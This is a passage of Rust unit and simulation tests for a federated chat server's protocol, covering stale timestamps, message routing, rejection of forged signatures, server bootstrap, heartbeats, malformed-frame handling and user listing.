        (120_001, false),
        (-3_600_000, false),
        (-120_000, true),
        (120_000, true),
        (-119_000, true),
    ] {
        let ts = now.checked_add_signed(offset).unwrap();
        let sd = signed(
            2,
            server_deliver(P, BOB, ts, &opaque_ciphertext(0x40), None),
        );
        let mark = n.events.len();
        n.send(p, &sd);
        assert_eq!(delivered(&mut n).len(), usize::from(ok), "offset {offset}");
        let rejected = n.rejected_since(mark);
        if ok {
            assert!(rejected.is_empty(), "offset {offset}: {rejected:?}");
        } else {
            assert_eq!(rejected, [(p, ErrorCode::Stale)], "offset {offset}");
        }
        let back: Vec<MsgType> = n.take(p).into_iter().map(|s| s.env.msg_type).collect();
        assert!(back.is_empty(), "no ERROR back to a server: {back:?}");
    }
    // A stale signed orig_ts is refused even under a fresh envelope ts.
    let stale = signed(
        2,
        server_deliver(P, BOB, now, &opaque_ciphertext(0x41), Some(now - 121_000)),
    );
    let mark = n.events.len();
    n.send(p, &stale);
    assert!(delivered(&mut n).is_empty());
    assert_eq!(n.rejected_since(mark), [(p, ErrorCode::Stale)]);
}

// -------------------------------------------------------------- case 13: routing table

#[test]
fn case_13_routing_local_remote_unknown_and_opaque_ciphertext() {
    let mut n = Node::sut();
    let p = n.peer(P, 2);
    let q = n.peer(Q, 3);
    let alice = n.user(ALICE, 5);
    let bob = n.user(BOB, 6);
    n.advertise(p, P, 2, CAROL, 7);
    n.clear();

    for ct in [opaque_ciphertext(13), "not even base64 %%%".to_owned()] {
        // Local target: USER_DELIVER to Bob only, everything kept, ts original.
        let ts = n.ts() - 2_000;
        let msg = dm(ALICE, BOB, ts, &ct);
        n.send(alice, &msg);
        let out = n.take(bob);
        assert_eq!(out.len(), 1);
        let d = &out[0].env;
        assert_eq!(d.msg_type, MsgType::UserDeliver);
        assert_eq!((d.from.as_str(), d.to.as_str(), d.ts), (SUT, BOB, ts));
        assert!(verifies(d, 1));
        let p_: UserDeliver = d.decode_payload().unwrap();
        assert_eq!(p_.ciphertext, ct, "relayed unchanged");
        assert_eq!(p_.sender, ALICE);
        assert_eq!(p_.sender_pub, key_wire(5));
        assert_eq!(p_.content_sig, "opaque-content-sig");
        assert_eq!(p_.orig_ts, Some(ts));
        assert!(n.out.is_empty(), "nothing else: {:?}", n.out);

        // Remote target: SERVER_DELIVER to Carol's server (P), not to Q.
        let msg = dm(ALICE, CAROL, ts, &ct);
        n.send(alice, &msg);
        let out = n.take(p);
        assert_eq!(out.len(), 1);
        let sd = &out[0].env;
        assert_eq!(sd.msg_type, MsgType::ServerDeliver);
        assert_eq!((sd.from.as_str(), sd.to.as_str(), sd.ts), (SUT, P, ts));
        assert!(verifies(sd, 1), "re-signed with our key");
        let sd: ServerDeliver = sd.decode_payload().unwrap();
        assert_eq!(sd.user_id, CAROL);
        assert_eq!(sd.ciphertext, ct, "relayed unchanged");
        assert_eq!(sd.sender, ALICE);
        assert_eq!(sd.content_sig, "opaque-content-sig");
        assert_eq!(sd.orig_ts, Some(ts));
        assert!(
            n.out.is_empty(),
            "nothing else, in particular to Q: {:?}",
            n.out
        );

        // Unknown target: ERROR USER_NOT_FOUND back to the sender, nothing else.
        let msg = dm(ALICE, DAVE, ts, &ct);
        n.send(alice, &msg);
        let out = n.take(alice);
        assert_eq!(out.len(), 1);
        assert_eq!(error_code(&out[0].env), "USER_NOT_FOUND");
        assert_eq!(out[0].env.to, ALICE);
        assert!(verifies(&out[0].env, 1));
        assert!(n.out.is_empty());
    }

    // A SERVER_DELIVER for someone not here: USER_NOT_FOUND to the originating server,
    // addressed to the original sender; not bounced back to its home either.
    let sd = signed(
        2,
        server_deliver(P, DAVE, n.ts(), &opaque_ciphertext(1), None),
    );
    n.send(p, &sd);
    let out = n.take(p);
    assert_eq!(out.len(), 1);
    assert_eq!(error_code(&out[0].env), "USER_NOT_FOUND");
    assert_eq!(out[0].env.to, CAROL);
    let sd = signed(
        2,
        server_deliver(P, CAROL, n.ts(), &opaque_ciphertext(2), None),
    );
    n.send(p, &sd);
    assert_eq!(error_code(&n.take(p)[0].env), "USER_NOT_FOUND");
    assert!(n.take(q).is_empty() && n.out.is_empty());
}

// ------------------------------------------------------------ case 14: bad transport sig

#[test]
fn case_14_a_server_frame_with_a_bad_transport_sig_is_dropped_and_changes_nothing() {
    let mut n = Node::sut();
    let p = n.peer(P, 2);
    let q = n.peer(Q, 3);
    let bob = n.user(BOB, 6);
    n.clear();
    let genuine = signed(2, advert(P, CAROL, 7, n.ts()));
    let sig_of = |env: &Envelope| env.sig.clone().unwrap();

    let mut forgeries: Vec<(&str, Envelope)> = Vec::new();
    // Signed by a key that is not P's.
    forgeries.push((
        "wrong key",
        signed(IMPOSTER_KEY, advert(P, CAROL, 7, n.ts())),
    ));
    // Q's real signature, claiming to be from P.
    forgeries.push(("Q's key", signed(3, advert(P, CAROL, 7, n.ts()))));
    // P's signature over another payload.
    let other = signed(2, advert(P, DAVE, 8, n.ts()));
    forgeries.push((
        "sig of another payload",
        advert(P, CAROL, 7, n.ts()).with_sig(sig_of(&other)),
    ));
    // P's valid signature, payload changed after signing.
    let mut altered = genuine.clone();
    altered
        .payload
        .insert("user_id".into(), Value::String(DAVE.into()));
    forgeries.push(("altered payload", altered));
    // One bit of the signature flipped.
    let mut bits = b64::decode(&sig_of(&genuine)).unwrap();
    bits[100] ^= 1;
    forgeries.push((
        "flipped bit",
        advert(P, CAROL, 7, n.ts()).with_sig(b64::encode(&bits)),
    ));
    forgeries.push(("not base64", advert(P, CAROL, 7, n.ts()).with_sig("%%%")));
    // From Q, sent on P's link and signed by P: checked against Q's pinned key.
    let mut via_p = signed(2, advert(Q, CAROL, 7, n.ts()));
    via_p.from = Q.into();
    forgeries.push(("other server's id", via_p));

    for (name, forged) in &forgeries {
        let mark = n.events.len();
        n.send(p, forged);
        assert_eq!(
            n.rejected_since(mark),
            [(p, ErrorCode::InvalidSig)],
            "{name}"
        );
        assert!(
            n.out.is_empty(),
            "{name}: nothing sent, no ERROR to a server"
        );
        assert_eq!(n.server.location(CAROL), None, "{name}");
        assert_eq!(n.server.location(DAVE), None, "{name}");
        assert!(
            n.server.linked_servers().contains(&P.to_owned()),
            "{name}: link kept"
        );
    }
    assert_eq!(n.list(bob, BOB), [BOB], "/list unchanged");

    // A forged SERVER_DELIVER is not delivered.
    let sd = signed(
        IMPOSTER_KEY,
        server_deliver(P, BOB, n.ts(), &opaque_ciphertext(14), None),
    );
    let mark = n.events.len();
    n.send(p, &sd);
    assert_eq!(n.rejected_since(mark), [(p, ErrorCode::InvalidSig)]);
    assert!(n.out.is_empty());

    // The forgeries did not poison the seen cache: the genuine advert (same ts, from,
    // to and payload as the first forgery) is accepted and forwarded.
    n.send(p, &genuine);
    assert_eq!(n.server.location(CAROL), Some(&Location::Server(P.into())));
    assert_eq!(n.take(q).len(), 1);
    assert_eq!(n.list(bob, BOB), ids(&[BOB, CAROL]));
}

// ------------------------------------------------------------------ case 15: bootstrap

/// The joiner's requested id (key 10), a server it learns in WELCOME (key 11) and an
/// id an introducer may assign instead.
const J: &str = "55555555-5555-4555-8555-555555555555";
const S3: &str = "66666666-6666-4666-8666-666666666666";
const NEW_ID: &str = "77777777-7777-4777-8777-777777777777";

#[test]
fn case_15_the_joiner_skips_a_down_introducer_and_joins_through_the_second() {
    let mut sim = Sim::legacy(15);
    let s0 = sim.add_server(ServerConfig::default(), 1);
    let s1 = sim.add_server(sim.config_joining(&[s0]), 2);
    sim.run_for(Duration::from_secs(2));
    let joins = record(&mut sim, MsgType::ServerHelloJoin, |_| Verdict::Deliver);

    let mut cfg = sim.config_joining(&[s0, s1]);
    // First in the list: a port nobody listens on.
    cfg.bootstrap.insert(
        0,
        BootstrapEntry {
            host: SIM_HOST.into(),
            port: port_of(40),
            pubkey: Some(key_wire(IMPOSTER_KEY)),
        },
    );
    assert_eq!(cfg.bootstrap.len(), 3);
    cfg.requested_id = Some(J.into());
    let mark = sim.events().len();
    let j = sim.add_server(cfg, 10);
    sim.run_for(Duration::from_secs(3));

    // One HELLO_JOIN, to the second entry, addressed "host:port".
    let joins = joins.borrow();
    assert_eq!(joins.len(), 1, "{joins:?}");
    assert_eq!(server_of(joins[0].from), Some(j));
    assert_eq!(server_of(joins[0].to), Some(s0));
    let hello = &joins[0].env;
    assert_eq!(hello.to, format!("{SIM_HOST}:{}", port_of(s0)));
    assert_eq!(hello.from, J);
    let hello: ServerHelloJoin = hello.decode_payload().unwrap();
    assert_eq!(
        (hello.host.as_str(), hello.port, hello.pubkey.as_str()),
        (SIM_HOST, port_of(j), key_wire(10).as_str())
    );

    // Same id kept, joined through s0, linked to both.
    assert_eq!(sim.server(j).id(), J);
    let joined: Vec<Event> = sim_events_since(&sim, mark, j)
        .into_iter()
        .filter(|e| matches!(e, Event::Joined { .. }))
        .collect();
    assert_eq!(
        joined,
        [Event::Joined {
            server_id: J.into(),
            introducer: sim.server(s0).id().into()
        }]
    );
    assert!(!sim_events_since(&sim, mark, j).contains(&Event::BootstrapFailed));
    let mut both = vec![
        sim.server(s0).id().to_owned(),
        sim.server(s1).id().to_owned(),
    ];
    both.sort();
    assert_eq!(sim.server(j).linked_servers(), both);
    assert!(sim.server(s0).linked_servers().contains(&J.to_owned()));
    assert!(sim.server(s1).linked_servers().contains(&J.to_owned()));
}

#[test]
fn case_15_the_joiner_announces_itself_with_to_star_on_every_link() {
    let mut sim = Sim::legacy(151);
    let s0 = sim.add_server(ServerConfig::default(), 1);
    let s1 = sim.add_server(sim.config_joining(&[s0]), 2);
    sim.run_for(Duration::from_secs(2));
    let announces = record(&mut sim, MsgType::ServerAnnounce, |_| Verdict::Deliver);
    let j = sim.add_server(sim.config_joining(&[s0]), 3);
    sim.run_for(Duration::from_secs(3));
    let announces = announces.borrow();
    for target in [s0, s1] {
        let mine: Vec<&Flight> = announces
            .iter()
            .filter(|f| server_of(f.from) == Some(j) && server_of(f.to) == Some(target))
            .collect();
        assert_eq!(mine.len(), 1, "one ANNOUNCE to server {target}");
        assert_eq!(mine[0].env.to, "*");
        assert_eq!(mine[0].env.from, sim.server(j).id());
        assert_eq!(payload_str(&mine[0].env, "pubkey"), key_wire(3));
        assert!(verifies(&mine[0].env, 3));
    }
}

fn joiner_cfg() -> ServerConfig {
    let mut cfg = ServerConfig::default();
    cfg.requested_id = Some(J.into());
    cfg.host = "j.test".into();
    cfg.port = 9010;
    cfg.bootstrap = vec![
        BootstrapEntry {
            host: "down.test".into(),
            port: 9100,
            pubkey: Some(key_wire(IMPOSTER_KEY)),
        },
        BootstrapEntry {
            host: "intro.test".into(),
            port: 9002,
            pubkey: Some(key_wire(2)),
        },
        BootstrapEntry {
            host: "third.test".into(),
            port: 9003,
            pubkey: Some(key_wire(3)),
        },
    ];
    cfg
}

/// A joiner (key 10) whose first introducer is down: it must dial the second and
/// send it SERVER_HELLO_JOIN. Returns the node and the join link.
fn joiner_at_second_introducer() -> (Node, LinkId) {
    let mut n = Node::new(joiner_cfg(), 10);
    assert_eq!(n.server.id(), J);
    assert!(!n.server.is_joined());
    let dials = n.dials();
    assert_eq!(dials.len(), 1);
    assert_eq!((dials[0].2.as_str(), dials[0].3), ("down.test", 9100));
    n.closed(dials[0].1); // connection refused
    let dials = n.dials();
    assert_eq!(dials.len(), 2);
    assert_eq!((dials[1].2.as_str(), dials[1].3), ("intro.test", 9002));
    let link = dials[1].1;
    n.server.handle_connected(n.now, Connection::Dialed(link));
    n.drain();
    let out = n.take(link);
    assert_eq!(out.len(), 1);
    let hello = &out[0].env;
    assert_eq!(hello.msg_type, MsgType::ServerHelloJoin);
    assert_eq!(
        (hello.from.as_str(), hello.to.as_str()),
        (J, "intro.test:9002")
    );
    assert!(verifies(hello, 10));
    let body: ServerHelloJoin = hello.decode_payload().unwrap();
    assert_eq!(
        (body.host.as_str(), body.port, body.pubkey),
        ("j.test", 9010, key_wire(10))
    );
    assert!(n.out.is_empty());
    (n, link)
}

#[test]
fn case_15_welcome_with_servers_clients_or_both_is_accepted_then_announced_to_star() {
    let s3 = json!({"server_id": S3, "host": "s3.test", "port": 9011, "pubkey": key_wire(11)});
    let carol =
        json!({"user_id": CAROL, "host": "intro.test", "port": 9002, "pubkey": key_wire(7)});
    let dave = json!({"user_id": DAVE, "host": "s3.test", "port": 9011, "pubkey": key_wire(8), "server_id": S3});
    let variants = [
        (
            "servers only",
            J,
            json!({"assigned_id": J, "servers": [s3]}),
        ),
        (
            "clients only, new id",
            NEW_ID,
            json!({"assigned_id": NEW_ID, "clients": [carol]}),
        ),
        (
            "both",
            J,
            json!({"assigned_id": J, "servers": [s3], "clients": [carol, dave]}),
        ),
        (
            "impl A shape",
            NEW_ID,
            json!({"assigned_id": NEW_ID, "server_id": P, "server_pub": key_wire(2),
                   "snapshot": {"user_locations": {}}}),
        ),
    ];
    for (name, assigned, payload) in variants {
        let has_servers = payload.get("servers").is_some();
        let clients = payload
            .get("clients")
            .map_or(0, |c| c.as_array().unwrap().len());
        let (mut n, link) = joiner_at_second_introducer();
        let welcome = signed(2, raw("SERVER_WELCOME", P, J, n.ts(), payload));
        n.send(link, &welcome);

        assert!(n.server.is_joined(), "{name}");
        assert_eq!(n.server.id(), assigned, "{name}");
        assert!(n.events.contains(&Event::Joined {
            server_id: assigned.into(),
            introducer: P.into()
        }));
        assert!(n.actions.iter().any(
            |(_, a)| matches!(a, Action::Store(StoreOp::ServerId { server_id }) if server_id == assigned)
        ));
        assert!(
            n.close_codes(link).is_empty(),
            "{name}: the join link is kept"
        );
        assert_eq!(n.server.linked_servers()[0], P, "{name}: introducer linked");

        // ANNOUNCE on the join link: from the assigned id, to "*", signed.
        let out = n.take(link);
        assert_eq!(out.len(), 1, "{name}: {out:?}");
        let ann = &out[0].env;
        assert_eq!(ann.msg_type, MsgType::ServerAnnounce);
        assert_eq!((ann.from.as_str(), ann.to.as_str()), (assigned, "*"));
        assert_eq!(payload_str(ann, "host"), "j.test");
        assert_eq!(payload_str(ann, "pubkey"), key_wire(10));
        assert!(verifies(ann, 10));

        // Listed clients are placed provisionally on their home server until that
        // server's link is identified: the introducer's own users (CAROL, no
        // server_id) are left to the introducer's adverts, since its link is up;
        // DAVE stays placed on S3 until S3 is linked.
        assert!(n.server.location(CAROL).is_none(), "{name}");
        if clients > 1 {
            assert_eq!(
                n.server.location(DAVE),
                Some(&Location::Server(S3.into())),
                "{name}"
            );
        }
        assert_eq!(
            n.server.online_users().len(),
            clients.saturating_sub(1),
            "{name}"
        );

        // Listed servers are pinned and dialled, then linked with HELLO_LINK + ANNOUNCE.
        let dials = n.dials();
        if has_servers {
            assert_eq!(dials.len(), 3, "{name}");
            let (_, s3_link, host, port) = dials[2].clone();
            assert_eq!((host.as_str(), port), ("s3.test", 9011));
            assert!(n.server.known_servers().contains(&S3.to_owned()));
            n.server
                .handle_connected(n.now, Connection::Dialed(s3_link));
            n.drain();
            let out = n.take(s3_link);
            let types: Vec<&MsgType> = out.iter().map(|s| &s.env.msg_type).collect();
            assert_eq!(
                types,
                [&MsgType::ServerHelloLink, &MsgType::ServerAnnounce],
                "{name}"
            );
            assert_eq!(out[0].env.to, S3);
            assert_eq!(out[1].env.to, "*");
            assert!(
                out.iter()
                    .all(|s| s.env.from == assigned && verifies(&s.env, 10))
            );
            assert_eq!(n.server.linked_servers().len(), 2);
        } else {
            assert_eq!(dials.len(), 2, "{name}: nothing more to dial");
        }
        // After S3's link is up, S3 speaks for its own users: nothing second hand is left.
        assert!(n.server.location(DAVE).is_none(), "{name}");
        if !has_servers {
            assert!(n.server.online_users().is_empty(), "{name}");
        }
        assert!(
            !n.dials().iter().any(|d| d.2 == "third.test"),
            "{name}: the third introducer is never tried"
        );
    }
}

#[test]
fn case_15_a_welcome_not_signed_by_the_pinned_introducer_key_is_refused() {
    let (mut n, link) = joiner_at_second_introducer();
    let forged = signed(
        IMPOSTER_KEY,
        raw(
            "SERVER_WELCOME",
            P,
            J,
            n.ts(),
            json!({"assigned_id": NEW_ID, "servers": []}),
        ),
    );
    n.send(link, &forged);
    assert!(!n.server.is_joined());
    assert_eq!(n.server.id(), J);
    assert_eq!(n.close_codes(link), [1008]);
    // It moves on to the third introducer.
    let dials = n.dials();
    assert_eq!(dials.len(), 3);
    assert_eq!((dials[2].2.as_str(), dials[2].3), ("third.test", 9003));
}

#[test]
fn case_15_an_announce_on_the_join_link_must_carry_the_pinned_introducer_key() {
    // Some implementations open with SERVER_ANNOUNCE instead of answering with a
    // WELCOME; on our join link it may still only come from the pinned key.
    let (mut n, link) = joiner_at_second_introducer();
    let imposter = signed(
        IMPOSTER_KEY,
        raw(
            "SERVER_ANNOUNCE",
            P,
            "*",
            n.ts(),
            json!({"host": "intro.test", "port": 9002, "pubkey": key_wire(IMPOSTER_KEY)}),
        ),
    );
    n.send(link, &imposter);
    assert_eq!(n.take_errors(link), ["BAD_KEY"]);
    assert_eq!(n.close_codes(link), [1008]);
    assert!(n.server.linked_servers().is_empty());
    assert!(!n.server.known_servers().contains(&P.to_owned()));
    let dials = n.dials();
    assert_eq!((dials[2].2.as_str(), dials[2].3), ("third.test", 9003));
}

#[test]
fn case_15_a_silent_introducer_is_abandoned_after_the_hello_timeout() {
    let (mut n, link) = joiner_at_second_introducer();
    n.run_for(Duration::from_millis(9_900));
    assert_eq!(n.dials().len(), 2);
    n.run_for(Duration::from_millis(200));
    assert_eq!(n.close_codes(link), [1000]);
    let dials = n.dials();
    assert_eq!(dials.len(), 3);
    assert_eq!((dials[2].2.as_str(), dials[2].3), ("third.test", 9003));
}

#[test]
fn case_15_the_introducer_keeps_a_free_uuid_and_assigns_a_new_one_otherwise() {
    let mut n = Node::sut();
    n.user(ALICE, 5); // to be listed in WELCOME's `clients`
    n.clear();
    let hello_join = |from: &str, key: usize, port: u16, ts: u64| {
        Envelope::new(
            from,
            "sut.test:9001",
            ts,
            ServerHelloJoin {
                host: format!("j{key}.test"),
                port,
                pubkey: key_wire(key),
                caps: Vec::new(),
            },
        )
    };
    let mut assigned_ids = Vec::new();
    for (requested, key) in [(J, 10), ("auto", 11), (SUT, 12), ("Server-Three", 4)] {
        let link = n.connect();
        // Unsigned, as HELLO_JOIN may be (sig absent).
        n.send(
            link,
            &hello_join(requested, key, 9100 + u16::try_from(key).unwrap(), n.ts()),
        );
        let out = n.take(link);
        let welcome = out
            .iter()
            .find(|s| s.env.msg_type == MsgType::ServerWelcome)
            .unwrap_or_else(|| panic!("{requested}: no WELCOME in {out:?}"));
        let w = &welcome.env;
        assert!(verifies(w, 1), "{requested}");
        assert_eq!(w.from, SUT);
        let assigned = payload_str(w, "assigned_id").to_owned();
        if requested == J {
            assert_eq!(assigned, J, "a free UUIDv4 is kept");
        } else {
            assert!(is_uuid_v4(&assigned), "{requested}: {assigned}");
            assert_ne!(assigned, requested);
            assert_ne!(assigned, SUT);
        }
        assert_eq!(w.to, assigned, "{requested}");
        assert_eq!(payload_str(w, "server_id"), SUT);
        assert_eq!(payload_str(w, "server_pub"), key_wire(1));
        // WELCOME lists the servers linked so far, and the clients online.
        let servers: Vec<String> = w.payload["servers"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s["server_id"].as_str().unwrap().to_owned())
            .collect();
        let mut expected = assigned_ids.clone();
        expected.sort();
        assert_eq!(servers, expected, "{requested}");
        let clients = w.payload["clients"].as_array().unwrap();
        assert_eq!(clients.len(), 1);
        assert_eq!(clients[0]["user_id"], ALICE);
        assert_eq!(clients[0]["server_id"], SUT);
        assert_eq!(clients[0]["pubkey"], key_wire(5).as_str());
        assert!(n.server.linked_servers().contains(&assigned));
        assert!(n.close_codes(link).is_empty());
        assigned_ids.push(assigned);
        n.clear();
    }
    let mut unique = assigned_ids.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), 4);
}

// ------------------------------------------------------------------ case 16: heartbeat

#[test]
fn case_16_heartbeats_every_15s_any_frame_is_liveness_and_a_silent_peer_is_redialled() {
    let mut n = Node::sut();
    let p = n.peer(P, 2);
    n.clear();
    let secs = |s: u64| Instant::ZERO + Duration::from_secs(s);

    // P talks at 40 s (an advert, not a heartbeat), then sends heartbeats with the three
    // payload shapes at 80, 120 and 160 s. Every gap is < 45 s, but 0 → 80 s is not:
    // only the advert keeps the link alive.
    let mark = n.events.len();
    n.run_until(secs(40));
    let ad = signed(2, advert(P, CAROL, 7, n.ts()));
    n.send(p, &ad);
    let beats = [
        (80, json!({"now": (T0 / 1000) + 80})),
        (120, json!({"server_type": "SERVER"})),
        (160, json!({})),
    ];
    for (at, payload) in beats {
        n.run_until(secs(at));
        let hb = signed(2, raw("HEARTBEAT", P, SUT, n.ts(), payload));
        n.send(p, &hb);
    }
    assert!(n.close_codes(p).is_empty(), "alive through 160 s");
    assert!(
        n.rejected_since(mark).is_empty(),
        "{:?}",
        n.rejected_since(mark)
    );
    assert_eq!(n.server.location(CAROL), Some(&Location::Server(P.into())));

    // Then silence: closed once more than 45 s passed, at a heartbeat tick.
    n.run_until(secs(230));
    let close_at = n
        .actions
        .iter()
        .find_map(|(t, a)| matches!(a, Action::Close { link, .. } if *link == p).then_some(*t))
        .expect("the silent link is closed");
    let silent = close_at.saturating_duration_since(secs(160));
    assert!(
        silent > Duration::from_secs(45) && silent <= Duration::from_millis(60_500),
        "closed after {silent:?} of silence"
    );
    assert_eq!(n.close_codes(p), [1000]);
    assert!(n.events.contains(&Event::ServerLost {
        server_id: P.into(),
        reason: "heartbeat timeout".into()
    }));
    assert_eq!(n.server.location(CAROL), None, "its users are gone");

    // HEARTBEATs went out every 15 s (+ < 0.5 s jitter) while the link was up: signed,
    // to P, payload {}.
    let hbs: Vec<Sent> = n
        .take(p)
        .into_iter()
        .filter(|s| s.env.msg_type == MsgType::Heartbeat)
        .collect();
    assert!(hbs.len() >= 13, "{} heartbeats", hbs.len());
    assert_eq!(hbs[0].at, secs(15));
    for pair in hbs.windows(2) {
        let gap = pair[1].at.saturating_duration_since(pair[0].at);
        assert!(
            gap >= Duration::from_secs(15) && gap < Duration::from_millis(15_500),
            "gap {gap:?}"
        );
    }
    assert!(hbs.last().unwrap().at < close_at);
    for hb in &hbs {
        assert_eq!((hb.env.from.as_str(), hb.env.to.as_str()), (SUT, P));
        assert!(hb.env.payload.is_empty());
        assert!(verifies(&hb.env, 1));
    }

    // The adapter closes it; a redial to P's announced address follows within 1–1.5 s,
    // then 2–3 s after a failed dial (exponential backoff with jitter).
    n.closed(p);
    n.run_until(close_at + Duration::from_secs(4));
    let dials = n.dials();
    assert_eq!(dials.len(), 1, "{dials:?}");
    let (t1, d1, host, port) = dials[0].clone();
    assert_eq!((host.as_str(), port), ("peer2.test", peer_port(2)));
    let wait = t1.saturating_duration_since(close_at);
    assert!(
        wait >= Duration::from_secs(1) && wait < Duration::from_millis(1_500),
        "{wait:?}"
    );
    let failed_at = n.now.mono;
    n.closed(d1);
    n.run_until(failed_at + Duration::from_secs(4));
    let dials = n.dials();
    assert_eq!(dials.len(), 2);
    let (t2, d2, ..) = dials[1].clone();
    let wait = t2.saturating_duration_since(failed_at);
    assert!(
        wait >= Duration::from_secs(2) && wait < Duration::from_secs(3),
        "{wait:?}"
    );
    // This one connects: HELLO_LINK then ANNOUNCE, and P is linked again.
    n.server.handle_connected(n.now, Connection::Dialed(d2));
    n.drain();
    let types: Vec<MsgType> = n.take(d2).into_iter().map(|s| s.env.msg_type).collect();
    assert_eq!(types, [MsgType::ServerHelloLink, MsgType::ServerAnnounce]);
    assert_eq!(n.server.linked_servers(), [P]);
}

#[test]
fn case_16_without_any_frame_the_peer_is_dead_by_60_5_s() {
    // The control for the test above: the same link with nothing from P at 40 s.
    let mut n = Node::sut();
    let p = n.peer(P, 2);
    n.run_until(Instant::ZERO + Duration::from_secs(45));
    assert!(n.close_codes(p).is_empty(), "not dead at 45 s");
    n.run_until(Instant::ZERO + Duration::from_millis(60_500));
    assert_eq!(n.close_codes(p), [1000]);
}

// -------------------------------------------------------------------- case 17: framing

#[test]
fn case_17_newlines_binary_frames_bad_json_and_unknown_types_do_not_kill_the_link() {
    let mut n = Node::sut();
    let p = n.peer(P, 2);
    // A trailing "\n" or "\r\n" is tolerated, on the hello too.
    let alice = n.connect();
    let mut hello = user_hello(ALICE, &key_wire(5), n.ts()).encode();
    hello.push(b'\n');
    n.recv(alice, &hello);
    assert_eq!(n.server.location(ALICE), Some(&Location::Local));
    let bob = n.connect();
    let mut hello = user_hello(BOB, &key_wire(6), n.ts()).encode();
    hello.extend_from_slice(b"\r\n");
    n.recv(bob, &hello);
    assert_eq!(n.server.location(BOB), Some(&Location::Local));
    n.clear();
    let mut next_ct = 0u8;
    let mut dm_gets_through = |n: &mut Node, suffix: &[u8]| {
        next_ct += 1;
        let ct = opaque_ciphertext(next_ct);
        let mut frame = dm(ALICE, BOB, n.ts(), &ct).encode();
        frame.extend_from_slice(suffix);
        n.recv(alice, &frame);
        let got = n.take_type(bob, &MsgType::UserDeliver);
        got.len() == 1 && payload_str(&got[0], "ciphertext") == ct
    };
    assert!(dm_gets_through(&mut n, b"\n"));

    // Each bad frame from the user gets exactly one ERROR with the right code, the link
    // stays open and the user can send right after.
    let unknown = raw("FOO_BAR", ALICE, SUT, n.ts(), json!({"x": 1})).encode();
    let cases: [(&str, Option<&[u8]>, &str); 6] = [
        ("binary frame", None, "BAD_FRAME"),
        (
            "invalid JSON",
            Some(b"{\"type\":\"MSG_DIRECT\",\"from\":"),
            "BAD_FRAME",
        ),
        ("not an object", Some(b"[1,2,3]"), "BAD_FRAME"),
        ("two objects", Some(b"{\"a\":1}{\"b\":2}"), "BAD_FRAME"),
        ("empty", Some(b""), "BAD_FRAME"),
        ("unknown type", Some(&unknown), "UNKNOWN_TYPE"),
    ];
    for (name, frame, code) in cases {
        match frame {
            None => {
                n.server.handle_binary(n.now, alice);
                n.drain();
            }
            Some(frame) => n.recv(alice, frame),
        }
        let out = n.take(alice);
        assert_eq!(out.len(), 1, "{name}");
        assert_eq!(error_code(&out[0].env), code, "{name}");
        assert_eq!(out[0].env.to, ALICE, "{name}");
        assert!(verifies(&out[0].env, 1), "{name}");
        assert!(n.close_codes(alice).is_empty(), "{name}: link kept");
        assert!(n.out.is_empty(), "{name}");
        assert!(
            dm_gets_through(&mut n, b""),
            "{name}: the user can still send"
        );
    }

    // From a server the same frames are dropped and never answered (no error storms).
    let mark = n.events.len();
    n.server.handle_binary(n.now, p);
    n.drain();
    n.recv(p, b"{not json");
    let unknown = signed(2, raw("FOO_BAR", P, SUT, n.ts(), json!({})));
    n.send(p, &unknown);
    let codes: Vec<ErrorCode> = n.rejected_since(mark).into_iter().map(|(_, c)| c).collect();
    assert_eq!(
        codes,
        [
            ErrorCode::BadFrame,
            ErrorCode::BadFrame,
            ErrorCode::UnknownType
        ]
    );
    assert!(n.take(p).is_empty());
    assert!(n.close_codes(p).is_empty());
    assert_eq!(n.server.linked_servers(), [P]);

    // Before any hello: an error back, the link kept, and a hello still works.
    let carol = n.connect();
    n.recv(carol, b"garbage\n");
    assert_eq!(n.take_errors(carol), ["BAD_FRAME"]);
    let unknown_first = raw("NO_SUCH_TYPE", CAROL, "server", n.ts(), json!({}));
    n.send(carol, &unknown_first);
    assert_eq!(n.take_errors(carol), ["UNKNOWN_TYPE"]);
    assert!(n.close_codes(carol).is_empty());
    n.send(carol, &user_hello(CAROL, &key_wire(7), n.ts()));
    assert_eq!(n.server.location(CAROL), Some(&Location::Local));
}

// ---------------------------------------------------------------------- case 18: /list

/// The `/list` of user `u` in both dialects: LIST_REQUEST and COMMAND "/list".
fn sim_list(sim: &mut Sim, u: usize) -> Vec<String> {
    sim.user_mut(u).inbox.clear();
    let ts = sim.now().unix_ms;
    let id = sim.user(u).id.clone();
    let req = sim.user(u).list_request(ts);
    sim.user_send(u, req);
    let cmd = Envelope::new(
        id.as_str(),
        "server",
        ts,
        Command {
            command: "/list".into(),
        },
    );
    sim.user_send(u, cmd.encode());
    sim.run_for(Duration::from_millis(500));
    let user = sim.user(u);
    let lists: Vec<Vec<String>> = user
        .received(&MsgType::ListResponse)
        .map(|e| e.decode_payload::<ListResponse>().unwrap().online_users)
        .collect();
    let commands: Vec<Vec<String>> = user
        .received(&MsgType::CommandResponse)
        .map(|e| {
            let r: CommandResponse = e.decode_payload().unwrap();
            assert_eq!(r.command, "/list");
            r.list_users().unwrap()
        })
        .collect();
    assert_eq!(lists.len(), 1);
    assert_eq!(commands, lists, "both dialects agree");
    let mut sorted = lists[0].clone();
    sorted.sort();
    assert_eq!(lists[0], sorted, "sorted");
    lists[0].clone()
}

#[test]
fn case_18_list_is_sorted_includes_users_learned_by_gossip_and_follows_user_remove() {
    // s1's own adverts to s2 are lost, so s2 learns of s1's users only through s0
    // forwarding s1's gossip. (The s1 — s2 link is up: a user whose home server we
    // cannot reach is not listed, since nothing could be routed to it.)
    let mut sim = Sim::legacy(18);
    let s0 = sim.add_server(ServerConfig::default(), 1);
    let s1 = sim.add_server(sim.config_joining(&[s0]), 2);
    sim.run_for(Duration::from_secs(2));
    let s2 = sim.add_server(sim.config_joining(&[s0]), 3);
    sim.run_for(Duration::from_secs(3));
    assert_eq!(sim.server(s2).linked_servers().len(), 2);
    let adverts = record(&mut sim, MsgType::UserAdvertise, move |f| {
        if server_of(f.from) == Some(s1) && server_of(f.to) == Some(s2) {
            Verdict::Drop
        } else {
            Verdict::Deliver
        }
    });

    let alice = sim.add_user(5);
    let bob = sim.add_user(6);
    let carol = sim.add_user(7);
    sim.connect_user(alice, s1);
    sim.connect_user(bob, s2);
    sim.connect_user(carol, s0);
    sim.run_for(Duration::from_secs(1));
    let [a, b, c] = [alice, bob, carol].map(|u| sim.user(u).id.clone());

    // Alice's advert reached s2 only through s0, still signed by s1.
    let to_s2: Vec<Flight> = adverts
        .borrow()
